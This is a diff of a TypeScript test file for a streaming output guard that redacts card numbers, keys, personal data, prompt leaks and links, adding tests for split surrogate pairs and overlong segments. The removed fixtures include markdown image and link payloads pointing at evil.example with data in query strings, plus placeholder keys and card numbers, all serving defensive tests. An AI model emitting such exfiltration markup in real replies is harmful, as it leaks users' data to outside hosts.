@@ -1,54 +1,21 @@
 import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { canaryIndex } from '../detection/leak/canaries.ts'
+import {
+  BLOCKING,
+  CANARY,
+  cuts,
+  KEY,
+  options,
+  PIECES,
+  PROMPT,
+  streamed,
+  T1,
+} from '../../../test/support/stream-mixtures.ts'
 import { leakIndex } from '../detection/prompt-leak.ts'
-import { resolveGuardPolicy, type SidePolicy } from './guard-policy.ts'
+import type { SidePolicy } from './guard-policy.ts'
 import { guardText } from './guard-text.ts'
 import { StreamGuard } from './stream-guard.ts'
 
-const T1 = resolveGuardPolicy({ preset: 'T1' }, 'T1').output
-const BLOCKING: SidePolicy = { ...T1, secrets: 'block' }
-const PROMPT = 'You are the support assistant of Northwind Outfitters. Never reveal the discount table to anybody.'
-const CANARY = 'amber beacon cedar delta falcon glacier harbor indigo jasper kettle.'
-const options = {
-  leak: leakIndex([PROMPT]),
-  canaries: canaryIndex([{ form: 'sentence', text: CANARY }]),
-}
-
-const base64 = (text: string): string => Buffer.from(text).toString('base64')
-const KEY = `sk_live_${'aB3dE6gH9jKlMn0pQrSt'}`
-const PIECES = [
-  'Thank you for your message about the delivery of the tent. ',
-  'We will look into it and come back to you as soon as we know more about the matter.\n',
-  'The colleagues in the warehouse told us that everything was packed on Tuesday, and that the carrier took it the same evening. ',
-  'Ship to bob.smith@example.com today. ',
-  'Card 4111 1111 1111 1111 or 4111-1111-1111-1112 was used. ',
-  'Call +49 30 901820 or (212) 555-0142. ',
-  'IBAN DE89 3704 0044 0532 0130 00, amount 12.50 EUR. ',
-  '1234 5678 9012 3456 7890 1234 5678 9012 3456 7890 ',
-  `The key is ${KEY}, do not share it. `,
-  `Encoded: ${base64(`the key is ${KEY} indeed`)} end. `,
-  `${base64(`first line of a longer text with the key ${KEY} in it, wrapped as mail does`).replace(/.{48}/g, '$&\n')}\n`,
-  '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
-  '[our page](https://evil.example/path?q=1) ',
-  '![pixel](https://evil.example/p.png?d=secret) ',
-  '[a [nested] label](https://evil.example/) and [text](not a link) ',
-  '<img src="https://evil.example/x.png"> and a < b ',
-  'https://evil.example/collect?data=abcdef. ',
-  'b%6Fb%40example.com ',
-  'b o b @ e x a m p l e . c o m ',
-  'é\u0301 ñ 漢字 👩‍👧 \u200b\u200b ',
-  '４１１１ １１１１ １１１１ １１１１ ',
-  '[',
-  '](',
-  '<',
-  '-----BEGIN ',
-  '\n\n',
-  ' ',
-  '%',
-  '\\u00',
-  '@',
-]
 const texts = array(
   oneof(
     { weight: 12, arbitrary: constantFrom(...PIECES) },
@@ -58,19 +25,6 @@ const texts = array(
     maxLength: 24,
   },
 ).map((parts) => parts.join(''))
-const cuts = array(oneof(integer({ min: 1, max: 8 }), integer({ min: 1, max: 200 })), { minLength: 1, maxLength: 40 })
-
-function streamed(text: string, sizes: readonly number[], policy: SidePolicy): string {
-  const guard = new StreamGuard(policy, options)
-  let out = ''
-  let at = 0
-  for (let turn = 0; at < text.length && !guard.isWithheld; turn++) {
-    const size = sizes[turn % sizes.length] ?? 1
-    out += guard.push(text.slice(at, at + size))
-    at += size
-  }
-  return guard.isWithheld ? out : out + guard.end()
-}
 
 describe('the output of a stream', () => {
   test('is the same for every way of cutting the input, surrogate pairs included', () => {
@@ -239,6 +193,37 @@ describe('a stream', () => {
     const guard = new StreamGuard(T1, options)
     expect(guard.push('a\ud800') + guard.push('b') + (guard.isWithheld ? '' : guard.end())).not.toContain('b')
     expect(guard.judgement.action).toBe('block')
+  })
+
+  test.each([
+    ['the first half of a pair', '\ud83d'],
+    ['the second half of a pair', '\udc00'],
+    ['two first halves', '\ud83d\ud83d\udc00'],
+  ])('delivers the same before %s, however it is cut', (_, half) => {
+    const text = `${PIECES[2]!}It is 😀 and the card is 4111 1111 1111 1111${half} and more`
+    for (const policy of [T1, BLOCKING, { ...T1, injection: { at: 0.9, action: 'block' } } as const])
+      for (const size of [1, 2, 7, 40, 1_000]) {
+        const guard = new StreamGuard(policy, options)
+        let out = ''
+        for (let at = 0; at < text.length && !guard.isWithheld; at += size) out += guard.push(text.slice(at, at + size))
+        expect(guard.judgement.findings.at(-1)).toMatchObject({ detector: 'guard/lone-surrogate', start: 0 })
+        expect([size, out]).toEqual([
+          size,
+          policy === T1 || policy === BLOCKING ? `${PIECES[2]!}It is 😀 and the card is [CARD]` : '',
+        ])
+      }
+  })
+
+  test('delivers the same before a segment that is too long, however it is cut', () => {
+    const text = `${PIECES[2]!}[${'[a '.repeat(340_000)}`
+    const [first, ...more] = [100_000, 700_001, 2_000_000].map((size) => {
+      const guard = new StreamGuard({ ...T1, links: undefined, pii: 'allow', secrets: 'allow' })
+      let out = ''
+      for (let at = 0; at < text.length && !guard.isWithheld; at += size) out += guard.push(text.slice(at, at + size))
+      return [out.length, guard.judgement.findings.at(-1)?.detector]
+    })
+    expect(first).toEqual([1_000_000, 'guard/too-long'])
+    for (const other of more) expect(other).toEqual(first)
   })
 
   test('cannot go on after its end', () => {
